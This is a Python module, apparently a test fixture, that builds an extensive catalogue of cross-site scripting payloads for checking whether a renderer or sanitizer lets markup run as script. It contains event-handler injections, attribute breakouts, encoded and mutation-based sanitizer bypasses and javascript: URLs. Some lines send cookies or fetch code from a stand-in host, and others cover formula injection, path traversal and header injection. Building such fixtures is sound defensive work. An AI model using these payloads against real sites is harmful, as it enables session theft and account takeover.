"""Texts that run as script where somebody shows them as markup: every combination that a parser may fall for.

Those that run call `alert(1)` or set `fired`; the others ask evil.example for something.
"""

from __future__ import annotations

import base64
from itertools import product
from pathlib import Path
from urllib.parse import quote

RUN = "alert(1)"
CORE = (f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<script>{RUN}</script>")

# Tags that have an event of their own which comes without a user, and those that wait for one.
LIVE = tuple(
    f"<{tag} {event}={RUN}>"
    for tag, event in (
        ("img src=x", "onerror"),
        ("img src=x loading=eager", "oNeRrOr"),
        ("image src=x", "onerror"),
        ("video src=x", "onerror"),
        ("video><source", "onerror"),
        ("audio src=x", "onerror"),
        ("audio src=data:,", "onloadstart"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("frameset", "onload"),
        ("iframe", "onload"),
        ("iframe src=x", "onload"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("script src=x", "onerror"),
        ("input autofocus", "onfocus"),
        ("button autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("a href=# autofocus", "onfocus"),
        ("div tabindex=0 autofocus", "onfocus"),
        ("div contenteditable autofocus", "onfocus"),
        ("div popover", "onbeforetoggle"),
        ("details open", "ontoggle"),
        ("dialog open", "onclose"),
        ("marquee", "onstart"),
        ("marquee loop=1 width=0", "onfinish"),
        ("svg", "onload"),
        ("svg><animate attributeName=x", "onbegin"),
        ("svg><animate attributeName=x dur=1s", "onend"),
        ("svg><set attributeName=x", "onbegin"),
        ("svg><image href=x", "onerror"),
        ("svg><script href=x", "onerror"),
        ("svg><discard", "onbegin"),
        ("svg><foreignObject><img src=x", "onerror"),
        ("math><mtext><img src=x", "onerror"),
        ("keygen autofocus", "onfocus"),
        ("x id=x style=animation:x", "onanimationstart"),
        ("style>@keyframes x{}</style><x style=animation-name:x", "onanimationstart"),
        ("x style=transition:color", "ontransitionrun"),
        ("x", "onclick"),
        ("x", "onpointerover"),
        ("x", "onmouseenter"),
        ("x contenteditable", "oninput"),
        ("x draggable=true", "ondragstart"),
        ("form", "onsubmit"),
        ("form><button", "onclick"),
        ("input type=image src=x", "onerror"),
        ("isindex type=image src=x", "onerror"),
        ("table background=x", "onload"),
        ("bgsound src=x", "onload"),
        ("track src=x default", "onerror"),
        ("video><track src=x default", "onerror"),
        ("portal src=x", "onload"),
        ("meter", "onclick"),
        ("progress", "onclick"),
        ("summary", "onclick"),
        ("label", "onclick"),
        ("option", "onclick"),
    )
)

# What a template may have opened before the text.
OPENED = (
    '">', "'>", "`>", "-->", "]]>", "*/", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>",
    "</td></tr></table>", "</select>", "</option></select>", "</svg>", "</math>", "</code></pre>", "</button>", "</a>",
    "</iframe>", "</xmp>", "</plaintext>", "<!--><", "<![CDATA[", "\\\">", "\\u0022>", "%22%3E", "&quot;&gt;", "\r\n\r\n",
)  # fmt: skip

# An attribute that the text breaks out of.
INSIDE = tuple(
    f"{q} {event}={q}{RUN}{end}"
    for q, (event, end) in product(
        ('"', "'", "`", " ", "/"),
        (("onfocus", " autofocus x="), ("onmouseover", ""), ("onclick", ""), ("onanimationstart", " style=animation:x"),
         ("onpointerenter", " x="), ("oncontentvisibilityautostatechange", " style=content-visibility:auto x=")),
    )
)  # fmt: skip

# The same tag as parsers, filters and decoders write it.
IMG = CORE[0]
SPELT = (
    "<IMG SRC=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "<img src=x onerror\n=alert(1)>",
    "<img src=x onerror=\"alert(1)\">", "<img src=x onerror='alert(1)'>", "<img src=x onerror=`alert(1)`>",
    "<img src=x onerror=alert`1`>", "<img src=x onerror=alert&lpar;1&rpar;>", "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=&#x61;lert(1)>", "<img src=x onerror=\\u0061lert(1)>", "<img src=x onerror=top['al'+'ert'](1)>",
    "<img src=x onerror=window.onerror=alert;throw+1>", "<img src=x onerror=import('//evil.example/x.js')>",
    "<img src=x onerror=fetch('//evil.example/'+document.cookie)>", "<img src=x onerror=fired=1>",
    "<img src=x onerror=print()>", "<img src=x onerror=prompt(1)>", "<img src=x onerror=confirm(1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "<img src=x onerror=Function('alert(1)')()>",
    "<img src=x onerror=setTimeout('alert(1)')>", "<img src=x onerror=location='javascript:alert(1)'>",
    "<<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img src=x onerror=alert(1)", "<img x>><img src=x onerror=alert(1)>",
    "<img src=x on\x00error=alert(1)>", "<im\x00g src=x onerror=alert(1)>", "<\x00img src=x onerror=alert(1)>",
    "\ufeff<img src=x onerror=alert(1)>", "\u202e<img src=x onerror=alert(1)>", "\u2028<img src=x onerror=alert(1)>",
    "<ımg src=x onerror=alert(1)>", "<img srcset=x onerror=alert(1)>", "<img src=x:x onerror=alert(1)>",
    "＜img src=x onerror=alert(1)＞", "﹤img src=x onerror=alert(1)﹥", "〈img src=x onerror=alert(1)〉", "\u2039img src=x onerror=alert(1)\u203a",
    "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&LT;img src=x onerror=alert(1)&GT;",
    "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&#0000060img src=x onerror=alert(1)>",
    "\\x3cimg src=x onerror=alert(1)\\x3e", "\\u003cimg src=x onerror=alert(1)\\u003e", "\\74img src=x onerror=alert(1)\\76",
    quote(IMG), quote(quote(IMG)), "+ADw-img src=x onerror=alert(1)+AD4-", base64.b64encode(IMG.encode()).decode(),
    IMG.encode().hex(), IMG.encode("utf-16-le").decode("latin-1"), "\x1b[31m" + IMG, "\x9b31m" + IMG,
    "<a" * 200 + IMG, "<b>" * 600 + IMG, IMG * 20, "x" * 3000 + IMG, "<" * 500, "&" * 500, "\n" * 50 + IMG,
)  # fmt: skip

# Trees that a sanitizer reads one way and a browser another (mutation).
MUTATED = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><style></template><img src=x onerror=alert(1)></style></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">", "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<select><option><style></select><img src=x onerror=alert(1)></style>", "<p id='</p><img src=x onerror=alert(1)>'>",
    "<table><td><svg><desc><table><td></svg><img src=x onerror=alert(1)>", "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\">",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
    "<math href=\"javascript:alert(1)\">x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<dialog open><form method=dialog><button formaction=javascript:alert(1)>x</button></form></dialog>",
    "<input type=submit formaction=javascript:alert(1)>", "<a href=x ping=//evil.example/>x</a>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=import href=//evil.example/x>",
    "<link rel=preload as=image href=//evil.example/x>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<div style=\"background:url(//evil.example/x)\">",
    "<div style=\"width:expression(alert(1))\">", "<table background=//evil.example/x>", "<video poster=//evil.example/x>",
    "<input type=image src=//evil.example/x>", "<img src=//evil.example/x>", "<img srcset='//evil.example/x 1x'>", "<iframe src=//evil.example/x>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<script src=//evil.example/x></script>",
    "<script type=module>import '//evil.example/x.js'</script>", "<script type=text/x-mathjax-config>alert(1)</script>",
    "<button data-commandlinker-command='notebook:run-all-cells'>x</button>", "<button class='hfm-approve' value='0000000000000000'>Run</button>",
    "<div id=jp-main-dock-panel class=jp-mod-current>x</div>", "<form id=body><input name=innerHTML></form>", "<a id=config></a><a id=config name=url href=//evil.example>",
)  # fmt: skip

# Addresses that run, and where an address may be put.
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    " javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript://%0aalert(1)",
    "javascript://x@huggingface.co/%0aalert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:alert(1)",
    "blob:https://evil.example/x", "//evil.example/x", "\\\\evil.example\\x", "https://huggingface.co@evil.example/", "file:///etc/passwd",
)  # fmt: skip
PLACES = (
    "{}", "<a href=\"{}\">x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button>x</button></form>", "<object data='{}'></object>",
    "[x]({})", "![x]({})", "<{}>", "[x]: {}", "$\\href{{{}}}{{x}}$", "\\(\\href{{{}}}{{x}}\\)", "<svg><a href='{}'><text y=9>x</text></a></svg>",
)  # fmt: skip

# What templates, notebooks, mathematics and terminals read.
READ = (
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{%raw%}", "[[${alert(1)}]]", "*{alert(1)}",
    "{{$on.constructor('alert(1)')()}}", "{{_c.constructor('alert(1)')()}}", "<div v-html=\"'<img src=x onerror=alert(1)>'\">", "<div x-init=alert(1)>",
    "<div ng-app ng-csp><input ng-focus=$event.view.alert(1) autofocus>", "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\">",
    "$$\\unicode{<img src=x onerror=alert(1)>}$$", "$\\text{<img src=x onerror=alert(1)>}$", "\\[\\href{javascript:alert(1)}{x}\\]",
    "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}", "$\\require{html}\\style{background:url(//evil.example/x)}{x}$",
    "$\\cssId{x}{\\class{hfm-approve}{x}}$", "$\\def\\x{\\href{javascript:alert(1)}{x}}\\x$", "`$\\href{javascript:alert(1)}{x}$`",
    "```html\n<img src=x onerror=alert(1)>\n```", "    <img src=x onerror=alert(1)>", "> <img src=x onerror=alert(1)>", "# <img src=x onerror=alert(1)>",
    "|<img src=x onerror=alert(1)>|\n|-|", "<javascript:alert(1)>", "[x](<javascript:alert(1)>)", "[x](javascript&#58alert(1))",
    "![x](x\"onerror=\"alert(1))", "![x\"onerror=\"alert(1)](x)", "<details><summary>x</summary>\n\n<img src=x onerror=alert(1)>\n</details>",
    "%%javascript\nalert(1)", "%%html\n<img src=x onerror=alert(1)>", "!touch x", "%load_ext evil", "{0.__class__}", "%(x)s", "%s%n",
    "__proto__", "constructor", "toString", "hasOwnProperty", "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07", "\x1b[2J\x1b[1;1H",
    "';alert(1)//", "\";alert(1)//", "`;alert(1)//", "\\';alert(1)//", "</script><script>alert(1)//", "*/alert(1)/*", "\u2028alert(1)//",
    "-alert(1)-", "'-alert(1)-'", "\"-alert(1)-\"", "1;alert(1)", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>", "../../../../etc/passwd", "?x=<img src=x onerror=alert(1)>", "#<img src=x onerror=alert(1)>",
)  # fmt: skip


def _all() -> tuple[str, ...]:
    kept = (Path(__file__).parents[1] / "render" / "payloads.txt").read_text(encoding="utf-8").splitlines()
    broken_out = (before + core for before, core in product(OPENED, CORE[:2]))
    addresses = (place.format(scheme) for scheme, place in product(SCHEMES, PLACES))
    every = (*kept, *CORE, *LIVE, *broken_out, *INSIDE, *SPELT, *MUTATED, *addresses, *READ)
    return tuple(dict.fromkeys(every))


PAYLOADS = _all()
